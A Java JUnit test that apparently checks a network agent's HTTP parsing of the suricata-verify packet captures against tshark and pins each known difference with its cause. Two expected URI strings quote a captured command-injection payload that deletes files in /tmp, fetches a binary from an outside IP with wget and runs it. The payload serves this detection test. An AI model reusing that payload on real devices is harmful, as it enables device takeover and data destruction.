package io.vigil.agent.packet;

import static org.junit.jupiter.api.Assertions.assertEquals;

import com.google.gson.JsonArray;
import com.google.gson.JsonElement;
import io.vigil.agent.packet.FieldAgreement.Difference;
import io.vigil.agent.packet.FieldAgreement.Expected;
import io.vigil.proto.v1.HttpEvent;
import io.vigil.proto.v1.Transport;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.Function;
import org.junit.jupiter.api.Test;

/**
 * The HTTP request's method, host, user agent and URI of every suricata-verify capture through the
 * real {@link PacketPipeline} (HTTP over TCP found by content, directly or in tunnels, and HTTP
 * over UDP), against tshark 4.0's {@code http.request} rows ({@code suricata-verify.tshark.json}),
 * scored per capture as multisets (see {@link FieldAgreement}) and summed over the corpus.
 *
 * <p>What each side lists: tshark one entry per request it dissected, {@code ""} for a header the
 * request lacks; ours one entry per {@link HttpEvent} that has a request (events of a response
 * whose request was not seen have no method and are not requests), {@code ""} likewise. tshark's
 * rows are per packet: a packet completing several requests has each column joined with "|" (a
 * missing header leaving no part), and the URI column was cut at {@value #URI_CUT} characters after
 * joining, so a cut value compares as a prefix and the parts cut away as empty prefixes.
 *
 * <p>The sums are pinned, below 99 %: every difference is listed in {@link #DIFFERENCES} with its
 * cause. Most of them are 91 UPnP requests that tshark dissects exactly as we do but files as
 * {@code http.notification}, which the summary did not take.
 */
class SuricataVerifyHttpAgreementTest {
  /** The summary's URI column was cut at this many characters (the whole column of a packet). */
  private static final int URI_CUT = 200;

  private static final String NOTIFICATIONS =
      "UPnP eventing (GENA NOTIFY, SUBSCRIBE, UNSUBSCRIBE; SSDP NOTIFY *): tshark files these as"
          + " http.notification, not http.request, the only rows the summary took; tshark -Y"
          + " http.notification lists these 91 with the same method, host, user agent and URI";
  private static final String ICMP_QUOTES =
      "6 requests quoted (cut, without Host or User-Agent) in ICMP 'fragmentation needed' errors,"
          + " frames 9, 20, 58, 69, 78, 117: tshark dissects the quote, we take no ICMP quote for"
          + " traffic (the 6 real requests agree)";
  private static final String URI_SPACES =
      "the request target holds a space: tshark ends the URI at it, we take all up to the version,"
          + " as Suricata does (its test http-uri-spaces expects ' afterspace' in http_uri) and as"
          + " bug-5437's injected command needs";
  private static final String DOUBLE_SPACES =
      "'POST  /  HTTP/1.0' (two spaces each side): tshark's URI is the empty string between the"
          + " first two spaces, ours is '/', as lenient parsers (Suricata's) read it";
  private static final String PORT_53 =
      "a second connection, 6666 -> 53, carries 'POST /oneself HTTP/1.0': tshark hands TCP port 53"
          + " to its DNS dissector, which finds no DNS (with -d tcp.port==53,http it gives this"
          + " request); we detect HTTP by content";
  private static final String HOST_BOUND =
      "a 4096-byte Host header: ours is cut at the 1 KiB field bound (HttpOptions), the event"
          + " marked truncated";

  /** Every difference as {@link Difference#toString} shows it, with its cause. */
  private static final List<Explained> DIFFERENCES =
      List.of(
          e(
              NOTIFICATIONS,
              "method output-eve-ftp-data.pcap: tshark only [], ours only ['NOTIFY' ×57, 'SUBSCRIBE' ×17, 'UNSUBSCRIBE' ×17]"),
          e(
              NOTIFICATIONS,
              "host output-eve-ftp-data.pcap: tshark only [], ours only ['192.168.0.1' ×34, '192.168.0.13:2869' ×34, '239.255.255.250:1900' ×23]"),
          e(
              NOTIFICATIONS,
              "user_agent output-eve-ftp-data.pcap: tshark only [], ours only ['' ×57, 'Microsoft-Windows/6.1 UPnP/1.0' ×34]"),
          e(
              NOTIFICATIONS,
              "uri output-eve-ftp-data.pcap: tshark only [], ours only ['*' ×23, '/WANCommonInterfaceConfig' ×16, '/WANIPConnection' ×18, '/upnp/eventing/bjpsvudvwg' ×2, '/upnp/eventing/dbaykrdlgd' ×2, '/upnp/eventing/emwwooqspb' ×2, '/upnp/eventing/iwpzikfodr' ×2, '/upnp/eventing/ixhvvjtxnp' ×2, '/upnp/eventing/jfytgnfstw', '/upnp/eventing/jgobkxnefl' ×2, '/upnp/eventing/kfoqkjbsdy', '/upnp/eventing/mclbfxnltw' ×2, '/upnp/eventing/metqhbadxi' ×2, '/upnp/eventing/mqdboiwddr' ×2, '/upnp/eventing/mvdgrwhckw' ×2, '/upnp/eventing/oklarpctdo', '/upnp/eventing/orjskmeowl' ×2, '/upnp/eventing/qcymsemqvo' ×2, '/upnp/eventing/tlmolvtldg' ×2, '/upnp/eventing/vfofeotndl' ×2, '/upnp/eventing/xcmmwtqlwc', '/upnp/eventing/yscxbxynqe' ×2]"),
          e(ICMP_QUOTES, "method filestore-5408.pcap: tshark only ['GET' ×6], ours only []"),
          e(ICMP_QUOTES, "host filestore-5408.pcap: tshark only ['' ×6], ours only []"),
          e(ICMP_QUOTES, "user_agent filestore-5408.pcap: tshark only ['' ×6], ours only []"),
          e(
              ICMP_QUOTES,
              "uri filestore-5408.pcap: tshark only ['/notify/iframe?exch=adx&id=5aW95q2jLzEvU'…(200 chars) (prefix) ×6], ours only []"),
          e(
              URI_SPACES,
              "uri bug-5437-01.pcap: tshark only ['/shell?cd+/tmp;rm+-rf+*;wget+' ×2], ours only ['/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm' ×2]"),
          e(
              URI_SPACES,
              "uri bug-5437-02.pcap: tshark only ['/shell?cd+/tmp;rm+-rf+*;wget+' ×2], ours only ['/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm' ×2]"),
          e(
              URI_SPACES,
              "uri http-uri-spaces.pcap: tshark only ['/uri'], ours only ['/uri afterspace']"),
          e(
              DOUBLE_SPACES,
              "uri detect-pcre__detect-pcre-04.pcap: tshark only ['' ×2], ours only ['/' ×2]"),
          e(
              DOUBLE_SPACES,
              "uri detect-pcre__detect-pcre-05.pcap: tshark only [''], ours only ['/']"),
          e(
              PORT_53,
              "method uricontent__detect-uricontent-02.pcap: tshark only [], ours only ['POST']"),
          e(PORT_53, "host uricontent__detect-uricontent-02.pcap: tshark only [], ours only ['']"),
          e(
              PORT_53,
              "user_agent uricontent__detect-uricontent-02.pcap: tshark only [], ours only ['Mozilla/1.0']"),
          e(
              PORT_53,
              "uri uricontent__detect-uricontent-02.pcap: tshark only [], ours only ['/oneself']"),
          e(
              HOST_BOUND,
              "host transform-dotprefix-uaf-8537.pcap: tshark only ['aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'…(4096 chars)], ours only ['aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'…(1024 chars)]"));

  private static final String[] FIELDS = {"method", "host", "user_agent", "uri"};

  @Test
  void methodHostUserAgentAndUriAgreeWithTshark() {
    FieldAgreement.Corpus scores = score(e -> true);
    List<String> totals = new ArrayList<>();
    for (String f : FIELDS) {
      System.out.println("HTTP " + f + " vs tshark: " + scores.total(f));
      totals.add(f + " " + scores.total(f).pinned());
    }
    Map<String, String> causes = new TreeMap<>();
    DIFFERENCES.forEach(e -> causes.put(e.difference(), e.cause()));
    scores
        .unmatchedByCause(causes)
        .forEach((c, n) -> System.out.println("  " + n + " unmatched, " + c));
    assertEquals(
        DIFFERENCES.stream().map(Explained::difference).sorted().toList(),
        scores.shownDifferences());
    // Below 99 %: method 87.73 %, host 87.50 %, user agent 87.73 %, URI 85.87 %. Unmatched
    // entries (union - matched): method 99 = 91 notifications + 6 ICMP quotes + 1 port
    // 53; user agent the same; host 101 = the same + 2 for the 1 KiB bound (one entry each side);
    // URI 115 = the same + 10 for spaces in the target (5 requests) + 6 for doubled spaces (3).
    assertEquals(
        List.of(
            "method 701/799, 508/511 captures agree",
            "host 700/800, 507/511 captures agree",
            "user_agent 701/799, 508/511 captures agree",
            "uri 693/807, 503/511 captures agree"),
        totals);
  }

  /**
   * The same comparison on tshark's definition of a request: Wireshark files GENA and SSDP
   * notifications ({@code NOTIFY}, {@code SUBSCRIBE}, {@code UNSUBSCRIBE}) as {@code
   * http.notification}, and the summary took {@code http.request} rows only, so those requests of
   * ours are left out of this score (they stay in the strict one above).
   */
  @Test
  void onTsharksDefinitionOfARequest() {
    FieldAgreement.Corpus scores = score(e -> !NOTIFICATION_METHODS.contains(e.getMethod()));
    List<String> totals = new ArrayList<>();
    for (String f : FIELDS) {
      System.out.println("HTTP " + f + " vs tshark, notifications left out: " + scores.total(f));
      totals.add(f + " " + scores.total(f).pinned());
    }
    // Below 99 % still (method 99.01 %, host 98.73 %, user agent 99.01 %, URI 96.79 %): 6 ICMP
    // quotes and 1 port 53 in every field; the
    // 1 KiB host bound; spaces and doubled spaces in URIs (see DIFFERENCES).
    assertEquals(PINNED_WITHOUT_NOTIFICATIONS, totals);
  }

  private static final java.util.Set<String> NOTIFICATION_METHODS =
      java.util.Set.of("NOTIFY", "SUBSCRIBE", "UNSUBSCRIBE");

  private static final List<String> PINNED_WITHOUT_NOTIFICATIONS =
      List.of(
          "method 701/708, 509/511 captures agree",
          "host 700/709, 508/511 captures agree",
          "user_agent 701/708, 509/511 captures agree",
          "uri 693/716, 504/511 captures agree");

  /** Our requests that {@code include} keeps against tshark's rows, per field and capture. */
  private static FieldAgreement.Corpus score(java.util.function.Predicate<HttpEvent> include) {
    SuricataVerifyCorpus corpus = SuricataVerifyCorpus.get();
    FieldAgreement.Corpus scores = new FieldAgreement.Corpus();
    List<Function<HttpEvent, String>> ours =
        List.of(
            HttpEvent::getMethod, HttpEvent::getHost, HttpEvent::getUserAgent, HttpEvent::getUri);
    corpus.ours.forEach(
        (capture, events) -> {
          JsonArray rows = corpus.tshark.get(capture).getAsJsonArray("http");
          List<HttpEvent> requests =
              events.http().stream().filter(e -> !e.getMethod().isEmpty()).filter(include).toList();
          for (int f = 0; f < FIELDS.length; f++) {
            scores.add(
                FIELDS[f], capture, expected(rows, f), requests.stream().map(ours.get(f)).toList());
          }
        });
    return scores;
  }

  /**
   * What the pipeline emits over the corpus: HTTP events over TCP and UDP, with and without a
   * request, tunnelled, truncated.
   */
  @Test
  void httpEventsOverTheCorpus() {
    SuricataVerifyCorpus corpus = SuricataVerifyCorpus.get();
    Map<String, Long> counts = new TreeMap<>();
    long captures = 0;
    List<String> truncated = new ArrayList<>();
    for (Map.Entry<String, PipelineRun.Events> c : corpus.ours.entrySet()) {
      List<HttpEvent> events = c.getValue().http();
      captures += events.isEmpty() ? 0 : 1;
      for (HttpEvent e : events) {
        if (e.getTruncated()) {
          truncated.add(c.getKey());
        }
        counts.merge(e.getTransport() == Transport.TRANSPORT_UDP ? "udp" : "tcp", 1L, Long::sum);
        counts.merge("request", e.getMethod().isEmpty() ? 0L : 1L, Long::sum);
        counts.merge("response", e.getStatusCode() == 0 ? 0L : 1L, Long::sum);
        counts.merge("tunnelled", e.getTunnel().isEmpty() ? 0L : 1L, Long::sum);
      }
    }
    System.out.println("HTTP events: " + counts + " in " + captures + " captures");
    // 822 events in 511 captures: 723 over TCP (one in http-connect-fragmented's CONNECT tunnel),
    // 99 over UDP (SSDP); 29 are responses whose request was not seen (no method); 204 requests
    // went unanswered; the one truncated is transform-dotprefix-uaf-8537's 4096-byte Host.
    assertEquals(
        Map.of(
            "tcp", 723L,
            "udp", 99L,
            "request", 793L,
            "response", 618L,
            "tunnelled", 1L),
        counts);
    assertEquals(511, captures);
    assertEquals(List.of("transform-dotprefix-uaf-8537.pcap"), truncated);
  }

  /**
   * tshark's values of field {@code f}, one per request: each row's column split at "|" when the
   * row holds several requests (missing headers give no part, so absent parts are {@code ""}), and
   * a URI column of exactly {@value #URI_CUT} characters taken as cut: its last part a prefix, the
   * parts cut away empty prefixes.
   */
  private static List<Expected> expected(JsonArray rows, int f) {
    List<Expected> out = new ArrayList<>();
    for (JsonElement e : rows) {
      JsonArray row = e.getAsJsonArray();
      int requests = row.get(0).getAsString().split("\\|", -1).length;
      String v = row.get(f).getAsString();
      boolean cut = f == 3 && v.length() == URI_CUT;
      String[] parts =
          requests == 1 ? new String[] {v} : v.isEmpty() ? new String[0] : v.split("\\|", -1);
      for (int i = 0; i < requests; i++) {
        if (i < parts.length) {
          out.add(new Expected(parts[i], cut && i == parts.length - 1));
        } else {
          out.add(new Expected("", cut));
        }
      }
    }
    return out;
  }

  /** A pinned difference, as {@link Difference#toString} shows it, and why it is there. */
  private record Explained(String difference, String cause) {}

  private static Explained e(String cause, String difference) {
    return new Explained(difference, cause);
  }
}
